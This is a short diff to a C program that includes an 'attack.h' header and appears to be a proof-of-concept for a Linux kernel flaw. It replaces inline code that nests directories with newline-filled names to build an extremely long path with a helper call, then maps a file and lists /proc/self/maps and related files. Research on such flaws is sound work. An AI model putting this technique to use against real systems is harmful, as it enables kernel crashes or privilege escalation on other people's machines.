@@ -4,15 +4,9 @@
 #include "attack.h"
 int main() {
   static char block[1 << 16];
-  char name[256];
   int full[2];
   if (pipe(full)) return 1;
-  memset(name, '\n', 255);
-  name[255] = 0;
-  while (mkdir(name, 0700) == 0 && chdir(name) == 0) {}
-  int f;
-  while ((f = open("f", O_RDWR | O_CREAT, 0600)) < 0 && chdir("..") == 0) rmdir(name);
-  ftruncate(f, 4096);
+  int f = open_at_longest_path();
   mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, f, 0);
   close(f);
   const char *files[] = {"/proc/self/maps", "/proc/self/smaps", "/proc/self/numa_maps"};
